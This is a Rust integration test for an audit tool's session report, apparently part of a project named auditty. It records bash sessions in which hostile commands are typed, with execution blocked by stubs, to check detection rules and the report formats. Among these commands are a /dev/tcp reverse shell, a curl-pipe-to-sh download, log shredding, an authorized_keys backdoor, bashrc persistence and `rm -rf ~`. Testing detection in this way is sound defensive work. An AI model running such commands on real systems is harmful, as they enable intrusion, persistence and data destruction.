//! Issue 17: `replay report` over a store holding sessions that hit each built-in rule,
//! a sealed and plain sessions, an altered session and a session missing from its node's
//! ledger. The numbers must be right in JSON, CSV and HTML (opened in headless Chromium:
//! text checked, screenshot kept), and the documented SQL run by DuckDB must give the
//! same session table.
//!
//! The sessions are real bash sessions on a PTY inside the real agent. The dangerous
//! commands are typed for the rules to see, never run: a directory of stubs comes first
//! in PATH (each prints `stub NAME`), and HOME is a scratch directory.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::time::Duration;

use auditty_tests::moto::venv_bin;
use auditty_tests::{PtySession, Sandbox, delete_session, edit_event_rows, show, ssh_key};
use schemas::{EventKind, RowKind, SessionId};
use serde_json::Value;
use terminal::pty::WinSize;

const T: Duration = Duration::from_secs(30);
const SIZE: WinSize = WinSize {
    cols: 160,
    rows: 50,
};

/// Each built-in rule and the command typed to hit it, by session.
const FIRST: &[(&str, &str)] = &[
    ("history-tampering", "unset HISTFILE"),
    ("log-wiping", "shred -u /var/log/auth.log"),
    (
        "download-and-execute",
        "curl -fsSL http://127.0.0.1:1/install.sh | sh",
    ),
    ("reverse-shell", "bash -i >& /dev/tcp/127.0.0.1/1 0>&1"),
    ("account-change", "useradd -m eve"),
];
const SECOND: &[(&str, &str)] = &[
    ("defence-impairment", "setenforce 0"),
    ("privilege-change", "sudo su -"),
    (
        "persistence-authorized-keys",
        "echo ssh-ed25519 AAAAC3Nz eve >> ~/.ssh/authorized_keys",
    ),
    (
        "persistence-startup",
        "echo 'curl -s http://127.0.0.1:1/x' >> ~/.bashrc",
    ),
    ("destructive", "rm -rf ~"),
];
/// Typed in the sealed session.
const SEALED: (&str, &str) = ("history-tampering", "history -c");

const STUBS: &[&str] = &[
    "shred",
    "curl",
    "useradd",
    "setenforce",
    "sudo",
    "rm",
    "wget",
    "nc",
    "systemctl",
    "mkfs.ext4",
    "dd",
    "chmod",
    "passwd",
];

/// The scratch environment of the recorded shells.
fn shell_env(sb: &Sandbox) -> Vec<(&'static str, String)> {
    let stubs = sb.path().join("stubs");
    std::fs::create_dir_all(&stubs).expect("stub dir");
    for name in STUBS {
        let p = stubs.join(name);
        std::fs::write(&p, format!("#!/bin/sh\necho stub {name}\n")).expect("stub");
        let mut perm = std::fs::metadata(&p).expect("stub").permissions();
        std::os::unix::fs::PermissionsExt::set_mode(&mut perm, 0o755);
        std::fs::set_permissions(&p, perm).expect("chmod stub");
    }
    let home = sb.path().join("home");
    std::fs::create_dir_all(&home).expect("home");
    let path = format!(
        "{}:{}",
        stubs.display(),
        std::env::var("PATH").unwrap_or_default()
    );
    vec![("PATH", path), ("HOME", home.display().to_string())]
}

/// Types each command, then a marker whose output proves the command ran, then exits.
fn record(sb: &Sandbox, extra: &[&str], commands: &[&str]) {
    let mut s: PtySession = sb.record_bash(extra, &shell_env(sb), SIZE);
    for (i, c) in commands.iter().enumerate() {
        s.type_line(c);
        let n = i + 1;
        s.type_line(&format!("echo step-$(({n}*1000+7))"));
        s.wait_for(&format!("step-{}", n * 1000 + 7), T);
    }
    s.type_line("exit");
    let status = s.wait(T);
    assert!(status.success(), "{status}: {}", s.rows().join("\n"));
}

fn commands(set: &[(&'static str, &'static str)]) -> Vec<&'static str> {
    set.iter().map(|(_, c)| *c).collect()
}

fn ids(sb: &Sandbox) -> Vec<SessionId> {
    sb.sessions()
        .iter()
        .map(|s| s["id"].as_str().expect("id").parse().expect("session id"))
        .collect()
}

fn report_json(sb: &Sandbox, extra: &[&str]) -> Value {
    let mut args = vec!["report", "--format", "json"];
    args.extend_from_slice(extra);
    let out = sb.replay(&args);
    assert!(out.status.success(), "{}", show(&out));
    serde_json::from_slice(&out.stdout).expect("the JSON report parses")
}

fn read_csv(path: &Path) -> Vec<BTreeMap<String, String>> {
    let text = std::fs::read_to_string(path).expect("csv");
    let mut lines = parse_csv(&text).into_iter();
    let header = lines.next().expect("a header row");
    lines
        .map(|row| header.iter().cloned().zip(row).collect())
        .collect()
}

/// RFC 4180, as the csv crate writes it.
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut field = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut field)),
            (false, '\n') => {
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => field.push(c),
        }
    }
    rows
}

/// The venv's Python running `script` with `args`, `stdin` fed in.
fn python(script: &str, args: &[&str], stdin: &[u8]) -> Output {
    let mut child = Command::new(venv_bin("python3"))
        .arg("-c")
        .arg(script)
        .args(args)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("run the venv's python (scripts/install-test-deps)");
    std::io::Write::write_all(child.stdin.as_mut().expect("stdin"), stdin).expect("to python");
    child.wait_with_output().expect("python")
}

fn artefact_dir() -> PathBuf {
    let dir = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("report-artefacts");
    std::fs::create_dir_all(&dir).expect("artefact dir");
    dir
}

fn chromium(args: &[&str], html: &Path) -> Output {
    let bin = ["chromium", "chromium-browser"]
        .into_iter()
        .find(|b| Command::new(b).arg("--version").output().is_ok())
        .expect("Chromium is not installed: run scripts/install-test-deps");
    let profile = tempfile::tempdir().expect("profile dir");
    Command::new(bin)
        .args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--no-first-run",
        ])
        .arg(format!("--user-data-dir={}", profile.path().display()))
        .args(args)
        .arg(format!("file://{}", html.display()))
        .output()
        .expect("run chromium")
}

/// The text of the element with `id` in a serialized DOM.
fn element_text(dom: &str, id: &str) -> String {
    let at = dom
        .find(&format!("id=\"{id}\""))
        .unwrap_or_else(|| panic!("no #{id} in the page"));
    let open = at + dom[at..].find('>').expect("tag end") + 1;
    let close = open + dom[open..].find('<').expect("text end");
    dom[open..close].to_string()
}

#[test]
fn a_report_counts_rules_integrity_ledger_and_sealing_the_same_in_every_format() {
    let sb = Sandbox::new();
    let (identity, recipient) = ssh_key(&sb.path().join("keys"), "auditor");
    record(&sb, &[], &commands(FIRST));
    record(&sb, &[], &commands(SECOND));
    record(&sb, &["--recipient", &recipient], &[SEALED.1]);
    // Checkpoints every other chunk, so that the start stays signed when the end is altered.
    record(
        &sb,
        &["--checkpoint-every", "2", "--chunk-latency-ms", "20"],
        &["echo one", "echo two", "echo three"],
    );
    for i in 1..=3 {
        let script = format!("echo ledger-{i}");
        sb.run(
            sb.cmd("auditty-agent")
                .args(["record", "-q", "--", "sh", "-c", &script]),
        );
    }
    sb.ingest();
    let all = ids(&sb);
    assert_eq!(all.len(), 7, "{all:?}");
    // The shells by start (seconds apart); the three short ones by what they ran.
    let (first, second, sealed, altered) = (all[0], all[1], all[2], all[3]);
    let ran = |text: &str| -> SessionId {
        let s = sb.sessions();
        let found = s
            .iter()
            .find(|s| s["command"].to_string().contains(text))
            .unwrap_or_else(|| panic!("no session ran {text}: {s:#?}"));
        found["id"]
            .as_str()
            .expect("id")
            .parse()
            .expect("session id")
    };
    let (deleted, after) = (ran("ledger-2"), ran("ledger-3"));

    // The last output row of the fourth session changed; the sixth deleted whole.
    edit_event_rows(&sb.store(), altered, |rows| {
        let row = rows
            .iter_mut()
            .rev()
            .find(|r| r.kind == RowKind::Event(EventKind::Output) && !r.data.is_empty())
            .expect("an output row");
        row.data[0] ^= 0x20;
    });
    delete_session(&sb.store(), deleted);
    // A review of the first session, and an export: both in the access log.
    let out = sb.replay(&[
        "review",
        &first.to_string(),
        "--decision",
        "escalate",
        "--comment",
        "curl | sh",
    ]);
    assert!(out.status.success(), "{}", show(&out));
    let out = sb.replay(&["export", &second.to_string(), "--format", "text"]);
    assert!(out.status.success(), "{}", show(&out));

    // JSON, without the key of the sealed session.
    let r = report_json(&sb, &[]);
    assert_eq!(r["schema"], "auditty-report");
    assert_eq!(r["schema_version"], 1);
    let h = &r["header"];
    assert_eq!(h["sessions"], 6, "{h:#}");
    assert_eq!(h["verdicts"]["complete"], 5, "{h:#}");
    assert_eq!(h["verdicts"]["altered"], 1, "{h:#}");
    assert_eq!(h["missing_from_ledger"], 1, "{h:#}");
    assert_eq!(h["sealed_sessions"], 1);
    assert_eq!(h["sealed_unopened"], 1);
    assert_eq!(h["findings"], 10, "{:#}", r["findings"]);
    assert_eq!(h["rules_enabled"], 10);
    assert_eq!(h["reviewed_sessions"], 1);
    assert!(h["objects"]["count"].as_u64().expect("count") >= 2);
    assert_eq!(h["objects"]["digest"].as_str().expect("digest").len(), 64);
    assert!(h["oldest_record"].as_str().expect("oldest").ends_with('Z'));
    let missing = &r["missing_sessions"][0];
    assert_eq!(missing["session_id"], deleted.to_string(), "{missing:#}");
    let detail = missing["detail"].as_str().expect("detail");
    assert!(
        detail.starts_with("missing from the store: session #6 of node ")
            && detail.ends_with(&format!("named by {after})")),
        "{detail}"
    );

    let sessions: BTreeMap<String, &Value> = r["sessions"]
        .as_array()
        .expect("sessions")
        .iter()
        .map(|s| (s["id"].as_str().expect("id").to_string(), s))
        .collect();
    assert!(!sessions.contains_key(&deleted.to_string()));
    assert_eq!(sessions[&altered.to_string()]["integrity"], "altered");
    assert_eq!(sessions[&sealed.to_string()]["sealed"], true);
    assert_eq!(sessions[&sealed.to_string()]["readable"], false);
    assert_eq!(sessions[&sealed.to_string()]["commands"], Value::Null);
    assert!(sessions[&first.to_string()]["reviewed_by"].is_string());
    assert_eq!(sessions[&first.to_string()]["review_decision"], "escalate");
    assert_eq!(
        sessions[&second.to_string()]["highest_finding"],
        "destructive"
    );
    assert_eq!(sessions[&second.to_string()]["highest_score"], 90);
    for (id, s) in &sessions {
        let expected = if *id == altered.to_string() {
            "altered"
        } else {
            "complete"
        };
        assert_eq!(s["integrity"], expected, "{s:#}");
        assert_eq!(s["ended"], "exit 0", "{s:#}");
    }

    // Each rule hit once, at the command typed for it, with its offset and how to open it.
    let findings = r["findings"].as_array().expect("findings");
    for (session, set) in [(first, FIRST), (second, SECOND)] {
        let listed: Vec<Value> = serde_json::from_str(&format!(
            "[{}]",
            String::from_utf8_lossy(
                &sb.replay(&["commands", &session.to_string(), "--json"])
                    .stdout
            )
            .lines()
            .collect::<Vec<_>>()
            .join(",")
        ))
        .expect("commands --json");
        assert_eq!(
            sessions[&session.to_string()]["commands"],
            listed.len(),
            "as many commands as `replay commands` lists"
        );
        for (rule, command) in set {
            let hits: Vec<&Value> = findings.iter().filter(|f| f["rule"] == *rule).collect();
            assert_eq!(hits.len(), 1, "{rule}: {hits:#?}");
            let f = hits[0];
            assert_eq!(f["session_id"], session.to_string());
            assert_eq!(f["command"], *command);
            assert_eq!(f["heuristic"], true);
            let at = listed
                .iter()
                .find(|c| c["command"] == *command)
                .unwrap_or_else(|| panic!("{command} in replay commands"));
            assert_eq!(f["offset"], at["offset_ns"], "{rule}");
            assert_eq!(f["command_index"], at["index"], "{rule}");
            assert!(
                f["open"]
                    .as_str()
                    .expect("open")
                    .starts_with(&format!("replay play {session} --at "))
            );
        }
    }
    let rules: BTreeMap<&str, &Value> = r["summaries"]["rules"]
        .as_array()
        .expect("rule summaries")
        .iter()
        .map(|s| (s["rule"].as_str().expect("rule"), s))
        .collect();
    assert_eq!(rules.len(), 10);
    assert!(
        rules
            .values()
            .all(|s| s["findings"] == 1 && s["sessions"] == 1),
        "{rules:#?}"
    );
    let access = r["access"].as_array().expect("access");
    assert!(
        access
            .iter()
            .any(|a| a["action"] == "export" && a["sessions"][0] == second.to_string()),
        "{access:#?}"
    );
    assert!(
        access.iter().any(|a| a["action"] == "review"),
        "{access:#?}"
    );
    // The first sessions on this host are a baseline deviation (no earlier session of the
    // user there).
    assert_eq!(r["baseline"][0]["session_id"], first.to_string());
    assert_eq!(r["baseline"][0]["kind"], "first-session-on-host");

    // The document follows its published schema (checked by the `jsonschema` package).
    let schema = concat!(env!("CARGO_MANIFEST_DIR"), "/../schemas/report.schema.json");
    let check = "import json, sys, jsonschema\nschema = json.load(open(sys.argv[1]))\njsonschema.Draft202012Validator.check_schema(schema)\njsonschema.validate(json.load(sys.stdin), schema, cls=jsonschema.Draft202012Validator)";
    let out = python(check, &[schema], r.to_string().as_bytes());
    assert!(
        out.status.success(),
        "the report against its schema: {}",
        show(&out)
    );

    // With the key, the sealed session's command is read and flagged too.
    let with_key = report_json(&sb, &["--identity", identity.to_str().expect("path")]);
    assert_eq!(with_key["header"]["sealed_unopened"], 0);
    assert_eq!(with_key["header"]["findings"], 11);
    assert!(
        with_key["findings"]
            .as_array()
            .expect("findings")
            .iter()
            .any(|f| {
                f["session_id"] == sealed.to_string()
                    && f["rule"] == SEALED.0
                    && f["command"] == SEALED.1
            })
    );
    // --flagged keeps the sessions with findings; --user and --host filter exactly.
    let flagged = report_json(&sb, &["--flagged"]);
    assert_eq!(flagged["header"]["sessions"], 2);
    // Review cadence: within 7 days nothing is overdue; with a maximum age shorter than
    // this test, every session is, the reviewed one too (its review came too late).
    assert_eq!(r["review_overdue"].as_array().expect("overdue").len(), 0);
    let strict = report_json(&sb, &["--review-max-age-days", "0.000001"]);
    assert_eq!(
        strict["review_overdue"].as_array().expect("overdue").len(),
        6
    );
    let nobody = report_json(&sb, &["--user", "nobody-at-all"]);
    assert_eq!(nobody["header"]["sessions"], 0);

    // CSV: the same numbers, one table per file.
    let csv = sb.path().join("csv");
    let out = sb.replay(&[
        "report",
        "--format",
        "csv",
        "--out",
        csv.to_str().expect("path"),
    ]);
    assert!(out.status.success(), "{}", show(&out));
    let header: BTreeMap<String, String> = read_csv(&csv.join("header.csv"))
        .into_iter()
        .map(|row| (row["key"].clone(), row["value"].clone()))
        .collect();
    for (k, v) in [
        ("sessions", "6"),
        ("verdict_complete", "5"),
        ("verdict_altered", "1"),
        ("missing_from_ledger", "1"),
        ("findings", "10"),
        ("sealed_sessions", "1"),
    ] {
        assert_eq!(header[k], v, "header.csv {k}");
    }
    let csv_sessions = read_csv(&csv.join("sessions.csv"));
    assert_eq!(csv_sessions.len(), 6);
    assert_eq!(read_csv(&csv.join("findings.csv")).len(), 10);
    let altered_row = csv_sessions
        .iter()
        .find(|s| s["session_id"] == altered.to_string())
        .expect("altered session row");
    assert_eq!(altered_row["integrity"], "altered");
    // Not over an existing report without --force.
    let out = sb.replay(&[
        "report",
        "--format",
        "csv",
        "--out",
        csv.to_str().expect("path"),
    ]);
    assert_eq!(out.status.code(), Some(2), "{}", show(&out));

    // HTML in headless Chromium: the numbers shown, a screenshot kept.
    let html = sb.path().join("report.html");
    let out = sb.replay(&["report", "--out", html.to_str().expect("path")]);
    assert!(out.status.success(), "{}", show(&out));
    let page = std::fs::read_to_string(&html).expect("html");
    for fetch in ["src=\"http", "href=\"http", "url(", "@import"] {
        assert!(!page.contains(fetch), "the page fetches nothing: {fetch}");
    }
    assert!(!page.contains("<script"), "no script");
    let dom = chromium(&["--dump-dom"], &html);
    assert!(dom.status.success(), "{}", show(&dom));
    let dom = String::from_utf8_lossy(&dom.stdout).into_owned();
    for (id, n) in [
        ("n-sessions", "6"),
        ("n-findings", "10"),
        ("n-not-complete", "1"),
        ("n-missing", "1"),
        ("n-sealed", "1"),
    ] {
        assert_eq!(element_text(&dom, id), n, "#{id}");
    }
    assert!(
        dom.contains(&format!("replay play {second} --at ")),
        "open-with commands shown"
    );
    let shot = artefact_dir().join("report.png");
    let _ = std::fs::remove_file(&shot);
    let out = chromium(
        &[
            "--window-size=1280,2400",
            &format!("--screenshot={}", shot.display()),
        ],
        &html,
    );
    assert!(out.status.success(), "{}", show(&out));
    let png = std::fs::read(&shot).expect("screenshot written");
    assert!(
        png.starts_with(b"\x89PNG") && png.len() > 10_000,
        "{} bytes",
        png.len()
    );
    std::fs::copy(&html, artefact_dir().join("report.html")).expect("keep the html");
    eprintln!("report artefacts: {}", artefact_dir().display());

    // The documented SQL, run by DuckDB over the same store, gives the same session table.
    let sql = std::fs::read_to_string(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../schemas/report-sessions.sql"
    ))
    .expect("schemas/report-sessions.sql")
    .replace("STORE", sb.store().to_str().expect("path"));
    let script = "import duckdb, json, sys\nrows = duckdb.sql(sys.stdin.read()).fetchall()\ntext = lambda v: None if v is None else str(v).lower() if isinstance(v, bool) else str(v)\nprint(json.dumps([[text(v) for v in r] for r in rows]))";
    let out = python(script, &[], sql.as_bytes());
    assert!(out.status.success(), "{}", show(&out));
    let sql_rows: Vec<Vec<Option<String>>> = serde_json::from_slice(&out.stdout).expect("rows");
    assert_eq!(sql_rows.len(), csv_sessions.len(), "{sql_rows:#?}");
    for (sql, csv) in sql_rows.iter().zip(&csv_sessions) {
        let get = |i: usize| sql[i].clone().unwrap_or_default();
        assert_eq!(get(0), csv["session_id"]);
        assert_eq!(get(1), csv["user"]);
        assert_eq!(get(2), csv["source_address"]);
        assert_eq!(get(3), csv["host"]);
        assert_eq!(get(4), csv["start"]);
        assert_eq!(get(5), csv["end"]);
        let dur: f64 = get(6).parse().expect("duration");
        let csv_dur: f64 = csv["duration_s"].parse().expect("duration");
        assert!((dur - csv_dur).abs() < 0.0015, "{dur} vs {csv_dur}");
        assert_eq!(get(7), csv["exit_status"]);
        assert_eq!(get(8), csv["sealed"]);
    }
}
